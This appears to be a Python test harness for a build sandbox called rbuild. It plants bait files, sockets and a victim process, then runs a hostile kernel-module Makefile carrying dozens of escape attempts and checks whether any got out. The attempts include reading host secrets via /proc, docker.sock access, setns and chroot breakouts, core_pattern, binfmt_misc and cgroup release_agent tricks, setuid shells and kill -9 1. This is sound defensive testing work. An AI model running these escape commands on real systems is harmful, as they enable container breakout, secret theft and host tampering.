@@ -1,0 +1,410 @@
+"""Escape attempts: a hostile module's Makefile, which is a program of somebody's, tries to get out.
+
+What succeeds is noticed from outside wherever something outside would change: a file, a process, a
+connection.  Where only the attacker can know, its shell reports it: it reads no more than the
+harness has put there to be read.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pwd
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from tests.faults.lab import CHECKOUT, Lab
+
+USER = "nobody"
+
+ATTEMPTS = {
+    # Reading what is the user's.
+    "read the home": 'cat "$CANARY"',
+    "read the home by /proc/1/root": 'cat "/proc/1/root$CANARY"',
+    "read the home by /proc/self/root": 'cat "/proc/self/root$CANARY"',
+    "read the home by dots": 'cat "/module/../../../../../../../../..$CANARY"',
+    "read the host's machine-id": 'test "$(cat /etc/machine-id)" = "$MACHINE"',
+    "read the Store": 'ls "$STORE/rootfs"',
+    "read the project": 'cat "$PROJECT/pyproject.toml"',
+    "read a file in the host's /tmp": 'cat "$TMPFILE"',
+    "read a file in the host's /dev/shm": 'cat "$SHMFILE"',
+    "read the host's disk": 'test -n "$(find /dev -type b)" && head -c 1 "$(find /dev -type b | head -1)"',
+    # Secrets.
+    "a secret in the environment": 'env | grep -q "$SECRET_NAME"',
+    "a secret in another process": 'cat /proc/*/environ | tr "\\0" "\\n" | grep -q "$SECRET_NAME"',
+    "a secret in a command line": 'cat /proc/*/cmdline | tr "\\0" " " | grep -q "$VICTIM_MARK"',
+    "a key of the session's keyring": "python3 $TOOL keyring",
+    # The network.
+    "loopback, IPv4": "python3 $TOOL tcp 127.0.0.1 $PORT",
+    "loopback, IPv6": "python3 $TOOL tcp ::1 $PORT6",
+    "an abstract socket": "python3 $TOOL abstract $ABSTRACT",
+    "a socket in the file system": 'python3 $TOOL unix "$SOCKET"',
+    "the Docker engine": "python3 $TOOL unix /var/run/docker.sock || python3 $TOOL unix /run/docker.sock",
+    "the system bus": "python3 $TOOL unix /run/dbus/system_bus_socket",
+    "an address outside": "python3 $TOOL tcp 192.0.2.1 53",
+    "a name": "getent hosts localhost.localdomain.example.org",
+    "an interface that is up": "python3 $TOOL interface",
+    "a raw socket on the host": "python3 $TOOL raw",
+    # Processes of the host.
+    "see a process of the host": 'grep -qs "$VICTIM_MARK" /proc/[0-9]*/cmdline',
+    "kill a process of the host": 'kill -9 "$VICTIM"; false',
+    "kill PID 1": "kill -9 1; false",
+    "trace a process of the host": 'python3 $TOOL ptrace "$VICTIM"',
+    "enter the namespaces of PID 1": "python3 $TOOL setns /proc/1/ns/mnt",
+    "shared memory of the host": 'python3 $TOOL shm "$SHMKEY"',
+    "type into the terminal": "python3 $TOOL tiocsti",
+    # Writing outside.
+    "write into the tree": "echo pwned >>/src/Makefile",
+    "write into the KDIR": "echo pwned >>/kdir/.config",
+    "remove of the KDIR": "rm /kdir/Module.symvers /kdir/.config",
+    "write into /usr": "echo pwned >/usr/bin/pwned",
+    "write into /etc": "echo pwned >/etc/pwned",
+    "write into the root": "echo pwned >/pwned",
+    "make the root writable": "mount -o remount,rw / && echo pwned >/pwned",
+    "make the tree writable": "mount -o remount,rw,bind /src && echo pwned >>/src/Makefile",
+    "uncover what is below the tree": "umount /src && ls /src/*",
+    "mount the host's disk": "mount -t ext4 /dev/vda /tmp || mount -t ext4 /dev/sda1 /tmp",
+    "a user namespace of its own": "unshare --user --map-root-user --mount sh -c "
+    "'mount -o remount,rw,bind /src && echo pwned >>/src/Makefile'",
+    "leave the root": 'python3 $TOOL chroot "$CANARY"',
+    "a handle of the host's root": "python3 $TOOL handle",
+    # The kernel.
+    "core_pattern": "echo '|/bin/sh' >/proc/sys/kernel/core_pattern",
+    "sysrq": "echo h >/proc/sysrq-trigger",
+    "the host's name": "hostname pwned-by-rbuild; false",
+    "the clock": 'date -s "@$(date +%s)"',
+    "the kernel's log": "echo pwned >/dev/kmsg",
+    "the kernel's memory": "head -c 1 /dev/mem || head -c 1 /dev/kmem || head -c 64 /proc/kcore",
+    "load a module": "python3 $TOOL module",
+    "binfmt_misc": "mount -t binfmt_misc none /tmp && echo ':pwned:M::PWNED::/bin/sh:C' >/tmp/register; "
+    "echo ':pwned:M::PWNED::/bin/sh:C' >/proc/sys/fs/binfmt_misc/register; false",
+    "a control group's release agent": "mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg "
+    "&& echo /bin/sh >/tmp/cg/release_agent",
+    "a device of its own": "mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk || "
+    "mknod /tmp/disk b 8 0 && head -c 1 /tmp/disk",
+    "reboot": "python3 $TOOL reboot",
+    # Staying, and leaving things behind.
+    "stay as a daemon": "setsid sh -c 'trap \"\" HUP TERM; exec sleep 7531' >/dev/null 2>&1 </dev/null & false",
+    "stay with stdout open": "setsid sh -c 'trap \"\" HUP TERM; exec sleep 7532' & false",
+    "leave a set-user-id file": "cp /bin/sh /module/suid && chmod 6755 /module/suid; false",
+    "leave a device": "mknod /module/device c 1 3; false",
+    "leave a pipe": "mkfifo /module/pipe; false",
+    "leave a socket": "python3 $TOOL bind /module/socket; false",
+    "leave a link to the home": 'ln -s "$CANARY" /module/link; false',
+    "leave a folder that is a link": 'ln -s "$(dirname "$CANARY")" /module/folder; false',
+    "leave a link to the tree": "ln /src/Makefile /module/hard; false",
+    "leave a capability": "cp /bin/sh /module/capable && setcap cap_sys_admin+ep /module/capable; false",
+    "leave a name with an escape": "touch \"$(printf '/module/\\033[2J\\nx')\"; false",
+    "write at names of rbuild's": 'printf "../../../../../..%s\\n" "$CANARY" '
+    ">/module/.tmp_inputs; false",
+    "a module that is the user's file": 'ln -sf "$CANARY" /module/canary.ko; '
+    "echo canary.o >>/module/modules.order; false",
+}
+"""What is tried: the shell's words, true if it succeeded as far as the attacker can tell."""
+
+TOOL = r"""
+import ctypes, os, socket, struct, sys
+what, *words = sys.argv[1:]
+libc = ctypes.CDLL(None, use_errno=True)
+def sure(value):
+    sys.exit(0 if value else 1)
+if what == "tcp":
+    family = socket.AF_INET6 if ":" in words[0] else socket.AF_INET
+    one = socket.socket(family); one.settimeout(2)
+    one.connect((words[0], int(words[1]))); one.send(b"pwned"); sure(True)
+if what in ("unix", "abstract"):
+    one = socket.socket(socket.AF_UNIX); one.settimeout(2)
+    one.connect(words[0] if what == "unix" else "\0" + words[0]); one.send(b"pwned"); sure(True)
+if what == "bind":
+    socket.socket(socket.AF_UNIX).bind(words[0]); sure(True)
+if what == "interface":
+    names = [name for _, name in socket.if_nameindex()]
+    sure([name for name in names if name != "lo"])
+if what == "raw":
+    one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); one.settimeout(1)
+    sure([name for _, name in socket.if_nameindex() if name != "lo"])
+if what == "keyring":
+    KEYCTL_SEARCH, SESSION, USER, READ = 10, -3, -4, 11
+    number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
+    for ring in (SESSION, USER, -5):
+        key = libc.syscall(number, KEYCTL_SEARCH, ring, b"user", b"rbuild-canary", 0)
+        if key > 0:
+            sure(True)
+    sure(False)
+if what == "ptrace":
+    sure(libc.ptrace(16, int(words[0]), 0, 0) == 0)
+if what == "setns":
+    sure(os.readlink(words[0]) != os.readlink("/proc/self/ns/mnt")
+         and libc.setns(os.open(words[0], os.O_RDONLY), 0) == 0)
+if what == "shm":
+    sure(libc.shmget(int(words[0]), 0, 0) >= 0)
+if what == "tiocsti":
+    import fcntl, termios
+    for number in range(3):
+        try:
+            fcntl.ioctl(number, termios.TIOCSTI, b"x"); sure(True)
+        except OSError:
+            pass
+    with open("/dev/tty", "rb+", buffering=0) as tty:
+        fcntl.ioctl(tty, termios.TIOCSTI, b"x")
+    sure(True)
+if what == "chroot":
+    os.mkdir("/tmp/jail"); top = os.open("/", os.O_RDONLY); os.chroot("/tmp/jail"); os.fchdir(top)
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot("."); sure(os.path.exists(words[0]))
+if what == "handle":
+    handle = struct.pack("IiIII", 8, 1, 2, 0, 0)
+    where = os.open("/module", os.O_RDONLY)
+    got = libc.open_by_handle_at(where, handle, os.O_RDONLY)
+    sure(got >= 0)
+if what == "module":
+    number = {"x86_64": 175, "aarch64": 105}[os.uname().machine]
+    libc.syscall(number, b"no module", 9, b"")
+    sure(ctypes.get_errno() == 8)
+if what == "reboot":
+    sure(libc.reboot(0) == 0)
+sys.exit(1)
+"""
+"""What is easier said in Python; a shell's test of its own status tells how it went."""
+
+KBUILD = """\
+obj-m += evil.o
+$(obj)/evil.o: $(src)/evil.c attack
+.PHONY: attack
+attack:
+\t-@timeout 120 sh $(src)/attack.sh >/module/said.txt 2>&1 </dev/null
+"""
+
+
+@dataclass
+class Escaped:
+    """What came of the attempts of one user in one runtime."""
+
+    runtime: str
+    user: str
+    attempts: int = 0
+    successes: list[str] = field(default_factory=list)
+
+
+@dataclass
+class Bait:
+    """What is put where an attacker may look for it, and how it is seen to have been touched."""
+
+    variables: dict[str, str]
+    touched: list[str] = field(default_factory=list)
+
+
+@contextlib.contextmanager
+def bait(lab: Lab, home: Path) -> Iterator[Bait]:
+    """Have files, listeners and a process for the attacker to find, outside of its sandbox."""
+    mark = f"rbuild-victim-{secrets.token_hex(6)}"
+    canary = home / "canary"
+    canary.write_text("the user's secret\n")
+    tmp = Path("/tmp") / f"rbuild-bait-{os.getpid()}"
+    shm = Path("/dev/shm") / f"rbuild-bait-{os.getpid()}"
+    for path in (tmp, shm):
+        path.write_text("bait")
+    victim = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(3600)", mark],
+        env={**os.environ, "RBUILD_SECRET": mark},
+    )
+    made = Bait({})
+    with contextlib.ExitStack() as stack:
+        stack.callback(victim.wait)
+        stack.callback(victim.kill)
+        for path in (tmp, shm):
+            stack.callback(path.unlink)
+        ports = {}
+        for family, address, name in (
+            (socket.AF_INET, ("127.0.0.1", 0), "PORT"),
+            (socket.AF_INET6, ("::1", 0), "PORT6"),
+            (socket.AF_UNIX, f"\0{mark}", "ABSTRACT"),
+            (socket.AF_UNIX, str(home / "socket"), "SOCKET"),
+        ):
+            listener = stack.enter_context(socket.socket(family))
+            try:
+                listener.bind(address)
+            except OSError:  # a host without IPv6
+                ports[name] = "1"
+                continue
+            listener.listen()
+            ports[name] = str(listener.getsockname()[1]) if family != socket.AF_UNIX else ""
+            threading.Thread(
+                target=_accept, args=(listener, name, made.touched), daemon=True
+            ).start()
+        made.variables.update(
+            ports,
+            CANARY=str(canary),
+            MACHINE=Path("/etc/machine-id").read_text().strip() or "none",
+            STORE=str(lab.cache),
+            PROJECT=str(CHECKOUT),
+            TMPFILE=str(tmp),
+            SHMFILE=str(shm),
+            SECRET_NAME="RBUILD_SECRET",
+            # So that whoever looks for it in command lines does not find its own.
+            VICTIM_MARK=f"[{mark[0]}]{mark[1:]}",
+            VICTIM=str(victim.pid),
+            ABSTRACT=mark,
+            SOCKET=str(home / "socket"),
+            SHMKEY="7531",
+        )
+        stack.enter_context(_keys())
+        yield made
+        if victim.poll() is not None:
+            made.touched.append("VICTIM")
+        if not canary.exists() or canary.read_text() != "the user's secret\n":
+            made.touched.append("CANARY")
+    with contextlib.suppress(OSError):
+        (home / "socket").unlink()
+
+
+def _accept(listener: socket.socket, name: str, touched: list[str]) -> None:
+    with contextlib.suppress(OSError):
+        while True:
+            connection, _ = listener.accept()
+            touched.append(name)
+            connection.close()
+
+
+@contextlib.contextmanager
+def _keys() -> Iterator[None]:
+    """Have a key in the keyring of this session, and a segment of shared memory."""
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
+    session, creating = -3, 0o1000 | 0o666
+    libc.syscall(add_key, b"user", b"rbuild-canary", b"secret", 6, session)
+    segment = libc.shmget(7531, 4096, creating)
+    try:
+        yield
+    finally:
+        libc.shmctl(segment, 0, 0)
+
+
+def attack(folder: Path, variables: dict[str, str]) -> Path:
+    """Write the hostile module; what it reports comes into its outputs."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "Kbuild").write_text(KBUILD)
+    (folder / "evil.c").write_text(
+        '#include <linux/module.h>\nMODULE_LICENSE("GPL");\nMODULE_DESCRIPTION("evil");\n'
+    )
+    (folder / "tool.py").write_text(TOOL)
+    lines = [f"{name}='{value}'" for name, value in variables.items()]
+    # Not exported: what is in the environment is what got in.
+    lines += ["TOOL=/module/tool.py", ": >/module/succeeded.txt"]
+    for name, words in ATTEMPTS.items():
+        quoted = name.replace("'", "'\\''")
+        lines.append(f"({words}\n) && echo '{quoted}' >>/module/succeeded.txt")
+    lines.append("echo all >>/module/succeeded.txt")
+    (folder / "attack.sh").write_text("\n".join(lines) + "\n")
+    return folder
+
+
+def escape(
+    lab: Lab, runtime: str, user: str | None, tell: Callable[[str], None] = print
+) -> Escaped:
+    """Build the hostile module in a runtime, as root or as a user; return what got out."""
+    found = Escaped(runtime, user or "root", len(ATTEMPTS))
+    home = lab.folder / f"home-{found.user}"
+    home.mkdir(exist_ok=True)
+    with bait(lab, home) as made:
+        module = attack(lab.folder / "evil", made.variables)
+        before = lab.seen()
+        hostname, clean = socket.gethostname(), _tree(lab)
+        env = lab.environment() | {"RBUILD_SECRET": "canary", "HOME": str(home)}
+        words = ["module", str(module), "--profile", str(lab.profile), "--runtime", runtime]
+        words += ["--timeout", "300", "--output", str(lab.folder / "exported")]
+        argv = [sys.executable, "-m", "rbuild", *words]
+        if user is not None:
+            argv = _as_user(lab, user, argv)
+        done = subprocess.run(argv, env=env, cwd=CHECKOUT, capture_output=True, text=True)
+        outputs = next((lab.cache / "kdirs").glob("*/modules/evil-*/build"))
+        said = outputs / "succeeded.txt"
+        words_of_it = said.read_text().splitlines() if said.exists() else ["nothing was reported"]
+        if words_of_it[-1:] != ["all"]:
+            found.successes.append(
+                f"the attempts didn't end: {words_of_it[-1:]}: {done.stderr[-300:]}"
+            )
+        found.successes += [one for one in words_of_it if one in ATTEMPTS]
+        found.successes += _outside(lab, outputs, hostname, clean, done.stdout + done.stderr)
+        found.successes += lab.after_the_end(before)
+    found.successes += [f"the harness's {one} was touched" for one in dict.fromkeys(made.touched)]
+    if done.returncode != 1 or "left what isn't taken from a build" not in done.stderr:
+        found.successes.append(f"its outputs were taken ({done.returncode}): {done.stderr[-300:]}")
+    shutil.rmtree(outputs.parent)
+    tell(f"escape: {found}")
+    return found
+
+
+def _as_user(lab: Lab, user: str, argv: Sequence[str]) -> list[str]:
+    """Return a command line that another user can run on the lab's Store."""
+    entry = pwd.getpwnam(user)
+    subprocess.run(["chown", "-R", f"{entry.pw_uid}:{entry.pw_gid}", lab.folder], check=True)
+    return [
+        "setpriv",
+        f"--reuid={entry.pw_uid}",
+        f"--regid={entry.pw_gid}",
+        "--clear-groups",
+        *argv,
+    ]
+
+
+def _tree(lab: Lab) -> dict[str, float]:
+    """Return the times of what a build must not write: of the tree, the KDIR and the rootfs."""
+    places = [*(lab.cache / "trees").glob("*/src"), *(lab.cache / "kdirs").glob("*/build")]
+    places += [
+        *(lab.cache / "rootfs").glob("*/root"),
+        *(lab.cache / "rootfs").glob("*/root/usr/bin"),
+    ]
+    files = [path for place in places for path in (place, place / "Makefile", place / ".config")]
+    return {str(path): path.stat().st_mtime for path in files if path.exists()}
+
+
+def _outside(
+    lab: Lab, outputs: Path, hostname: str, before: dict[str, float], shown: str
+) -> list[str]:
+    """Return what can be seen outside of the sandbox, once the build has ended."""
+    found = [
+        f"{path} was written to" for path, time_ in _tree(lab).items() if before.get(path) != time_
+    ]
+    if socket.gethostname() != hostname:
+        found.append("the host has another name")
+    if Path("/proc/sys/fs/binfmt_misc/pwned").exists():
+        found.append("the host runs programs by the attacker's interpreter")
+    lines = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
+    for number in ("7531", "7532"):
+        for _ in range(20):
+            if f"sleep {number}" not in lines:
+                break
+            time.sleep(0.1)
+            lines = subprocess.run(
+                ["ps", "-eo", "args"], capture_output=True, text=True, check=True
+            ).stdout
+        else:
+            found.append(f"a daemon runs on the host (sleep {number})")
+    for path in outputs.rglob("*"):
+        mode = path.lstat().st_mode
+        if path.is_symlink() or not (path.is_file() or path.is_dir()):
+            found.append(f"{path.name!a} is left")
+        elif mode & 0o6000 and path.is_file():
+            found.append(f"{path.name!a} has rights")
+        elif path.is_file() and "security.capability" in os.listxattr(path):
+            found.append(f"{path.name!a} has capabilities")
+        elif path.is_file() and path.stat().st_nlink > 1:
+            found.append(f"{path.name!a} is linked from elsewhere")
+    exported = lab.folder / "exported"
+    if exported.exists():
+        found += [f"{path.name!a} was exported" for path in exported.iterdir()]
+    if "\x1b[2J" in shown:
+        found.append("an escape sequence reached the terminal")
+    return found
